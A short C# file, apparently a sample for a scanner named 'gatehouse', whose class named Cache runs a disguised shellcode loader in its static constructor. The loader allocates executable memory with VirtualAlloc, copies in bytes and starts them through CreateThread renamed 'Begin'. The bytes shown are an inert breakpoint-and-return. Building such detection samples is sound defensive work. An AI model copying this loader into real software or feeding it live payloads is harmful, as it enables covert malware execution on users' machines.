using System;
using System.Runtime.InteropServices;

static class Cache
{
    [DllImport("kernel32.dll")]
    static extern IntPtr VirtualAlloc(IntPtr address, uint size, uint type, uint protect);
    [DllImport("kernel32.dll", EntryPoint = "CreateThread")]
    static extern IntPtr Begin(IntPtr a, uint b, IntPtr start, IntPtr c, uint d, IntPtr e);

    static Cache()
    {
        byte[] table = { 0xCC, 0xC3 };
        IntPtr place = VirtualAlloc(IntPtr.Zero, (uint)table.Length, 0x3000, 0x40); // gatehouse: flagged
        Marshal.Copy(table, 0, place, table.Length);
        Begin(IntPtr.Zero, 0, place, IntPtr.Zero, 0, IntPtr.Zero);
    }
}
